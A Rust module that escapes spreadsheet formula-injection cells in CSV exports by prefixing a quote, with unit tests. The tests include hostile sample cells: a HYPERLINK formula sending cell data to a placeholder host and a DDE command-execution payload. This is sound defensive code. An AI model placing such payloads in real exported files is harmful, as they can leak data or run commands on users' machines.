//! Spreadsheet formula injection (CSV injection): a cell that starts with `=`, `+`, `-`, `@`, a
//! tab or a carriage return is run as a formula by spreadsheet programs. As OWASP recommends,
//! such a cell is written with a leading `'`, which makes the program show it as text. A cell
//! that is a plain decimal number (a price of `-1.00`) is data, not a formula, and stays as it
//! is whatever its column. Used by the `csv` formats; the Shopify import CSV is read by
//! Shopify's importer, which takes cells literally, so it is written as is.

/// What happens to cells that would start a formula.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default)]
pub enum Cells {
    /// Written with a leading `'` (the default).
    #[default]
    Neutralised,
    /// Written as the store sent them (`--raw-cells`).
    Raw,
}

impl Cells {
    /// The record's cells as this setting writes them.
    pub fn apply<const N: usize>(self, record: [String; N]) -> [String; N] {
        match self {
            Cells::Raw => record,
            Cells::Neutralised => record.map(neutralised),
        }
    }
}

/// The characters that start a formula (OWASP, "CSV Injection").
const TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];

/// `cell` with a leading `'` when a spreadsheet would run it as a formula.
pub fn neutralised(cell: String) -> String {
    if cell.starts_with(TRIGGERS) && !is_plain_number(&cell) {
        format!("'{cell}")
    } else {
        cell
    }
}

/// `-?digits[.digits]`: a number as stores send prices, which no spreadsheet runs.
fn is_plain_number(text: &str) -> bool {
    let digits = text.strip_prefix('-').unwrap_or(text);
    let (whole, fraction) = digits.split_once('.').unwrap_or((digits, "0"));
    !whole.is_empty()
        && !fraction.is_empty()
        && whole.bytes().all(|b| b.is_ascii_digit())
        && fraction.bytes().all(|b| b.is_ascii_digit())
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn formula_cells_are_neutralised_and_numbers_kept() {
        let n = |s: &str| neutralised(s.to_string());
        assert_eq!(
            n(r#"=HYPERLINK("http://x/?a="&A1,"Click")"#).chars().next(),
            Some('\'')
        );
        for formula in [
            "+cmd|' /C calc'!A0",
            "=1+1",
            "@SUM(A1)",
            "-2+3",
            "\tx",
            "\rx",
            "-",
            "-1e5",
        ] {
            assert_eq!(n(formula), format!("'{formula}"), "{formula:?}");
        }
        for data in [
            "-1.00",
            "-1",
            "10.00",
            "0",
            "",
            "Mug = cup",
            "'quoted",
            " =1",
            "a@b",
        ] {
            assert_eq!(n(data), data, "{data:?}");
        }
        let record = [String::from("=1"), String::from("-3.50")];
        assert_eq!(Cells::Neutralised.apply(record.clone()), ["'=1", "-3.50"]);
        assert_eq!(Cells::Raw.apply(record.clone()), record);
    }
}
